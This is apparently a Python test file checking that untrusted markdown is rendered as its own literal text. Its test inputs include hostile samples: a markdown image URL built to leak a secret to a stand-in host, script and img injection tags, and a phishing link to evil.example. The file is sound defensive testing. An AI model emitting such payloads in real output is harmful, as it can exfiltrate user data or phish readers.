"""Text nobody here wrote is shown as written: checked by rendering it with a real CommonMark parser (the browser
test in test_ui_browser.py checks that Chromium fetches nothing)."""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from ui.untrusted import answer_markdown, as_text, source_anchor

HOSTILE = [
    "See ![chart](http://127.0.0.1:9/leak?q=secret) for details.",
    '<img src="http://127.0.0.1:9/raw.png"> and <script>alert(1)</script>',
    "The cost is $x^2$ or \\(y\\) and $$\\int f$$",
    "[click here](http://evil.example/phish 'title') then <http://auto.example>",
    "# Not a heading\n- not a list\n1. not a step\n> not a quote\n```\nnot code\n```",
    "**bold?** _no_ ~~strike~~ `code` | a | table |\n|---|---|",
    ":red[directive] :material/home: &lt;entity&gt; &amp;",
]

_GFM = MarkdownIt("commonmark").enable(["table", "strikethrough", "linkify"])


def _rendered(markdown: str) -> str:
    return _GFM.render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_as_its_own_text(text: str) -> None:
    rendered = _rendered(as_text(text))
    assert not re.search(r"<(img|a|script|h\d|ul|ol|li|blockquote|pre|code|strong|em|s|table)\b", rendered), rendered
    shown = html.unescape(re.sub(r"<[^>]+>", "", rendered)).replace("\n", "")
    spelled = re.sub(r"!?\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[^)]*)?\)", r"\1 (\2)", text).replace("\n", "")
    assert shown.replace(" ", "") == spelled.replace(" ", ""), "every character is shown, and only those"


def test_a_link_is_its_text_and_its_target() -> None:
    assert "click here (http://evil.example/phish)" in html.unescape(_rendered(as_text(HOSTILE[3])))
    assert "chart (http://127.0.0.1:9/leak?q=secret)" in html.unescape(_rendered(as_text(HOSTILE[0])))


def test_lines_stay_lines() -> None:
    assert _rendered(as_text("first\nsecond")).count("<br") == 1


def test_only_the_shown_sources_markers_become_links_to_them() -> None:
    rendered = _rendered(answer_markdown("Reset it [1]. Then wait [3]. ![x](http://127.0.0.1:9/a)", "t-0", {1, 2}))
    links = re.findall(r'<a href="([^"]+)">\[(\d+)\]</a>', rendered)
    assert links == [(f"#{source_anchor('t-0', 1)}", "1")]
    assert "[3]" in rendered and "<img" not in rendered
    assert source_anchor("thread 1/x", 2) == "source-thread-1-x-2"
